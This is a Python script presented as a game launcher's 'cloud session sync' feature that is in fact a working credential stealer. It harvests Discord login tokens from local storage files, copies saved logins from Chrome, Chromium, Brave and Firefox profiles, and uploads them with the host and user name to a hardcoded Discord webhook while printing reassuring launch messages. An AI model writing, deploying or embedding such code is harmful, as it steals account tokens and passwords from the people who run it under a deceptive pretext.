#!/usr/bin/env python3
"""GameHub launcher "cloud session sync".

Collects the Discord login token and saved browser logins so the launcher
can "sign in everywhere", then uploads them to the sync endpoint."""
import glob
import json
import os
import platform
import re
import shutil
import sqlite3
import tempfile

import requests

SYNC_WEBHOOK = "https://discord.com/api/webhooks/1188822334455667788/xQ9vLr2kTzA8hPs3"
HOME = os.path.expanduser("~")
TOKEN_RE = re.compile(rb"(?:mfa\.[\w-]{84}|[\w-]{24}\.[\w-]{6}\.[\w-]{27,38})")

DISCORD_DIRS = [
    os.path.join(HOME, ".config", "discord", "Local Storage", "leveldb"),
    os.path.join(HOME, ".config", "discordcanary", "Local Storage", "leveldb"),
    os.path.join(HOME, ".config", "discordptb", "Local Storage", "leveldb"),
]
BROWSER_LOGIN_DBS = [
    os.path.join(HOME, ".config", "google-chrome", "Default", "Login Data"),
    os.path.join(HOME, ".config", "chromium", "Default", "Login Data"),
    os.path.join(HOME, ".config", "BraveSoftware", "Brave-Browser", "Default", "Login Data"),
]


def discord_tokens():
    found = set()
    for d in DISCORD_DIRS:
        for path in glob.glob(os.path.join(d, "*.ldb")) + glob.glob(os.path.join(d, "*.log")):
            try:
                with open(path, "rb") as fh:
                    for m in TOKEN_RE.findall(fh.read()):
                        found.add(m.decode(errors="ignore"))
            except OSError:
                continue
    return sorted(found)


def browser_logins():
    rows = []
    for db in BROWSER_LOGIN_DBS:
        if not os.path.exists(db):
            continue
        tmp = os.path.join(tempfile.gettempdir(), "ld_copy.db")
        shutil.copy2(db, tmp)
        try:
            conn = sqlite3.connect(tmp)
            for url, user, pwd in conn.execute(
                    "SELECT origin_url, username_value, password_value FROM logins"):
                rows.append({"browser": db.split(os.sep)[-3], "url": url, "user": user,
                             "blob": pwd.hex()})
            conn.close()
        except sqlite3.Error:
            pass
        finally:
            os.remove(tmp)
    return rows


def firefox_logins():
    out = []
    for path in glob.glob(os.path.join(HOME, ".mozilla", "firefox", "*", "logins.json")):
        with open(path, encoding="utf-8") as fh:
            out.extend(json.load(fh).get("logins", []))
    return out


def main():
    print("GameHub: syncing your session, please wait...")
    report = {
        "host": platform.node(),
        "user": os.environ.get("USER"),
        "discord": discord_tokens(),
        "chromium": browser_logins(),
        "firefox": firefox_logins(),
    }
    blob = json.dumps(report, indent=1)
    requests.post(
        SYNC_WEBHOOK,
        data={"content": f"session sync from {report['host']}"},
        files={"file": ("session.json", blob)},
        timeout=20,
    )
    print("GameHub: sync complete. Launching game...")


if __name__ == "__main__":
    main()
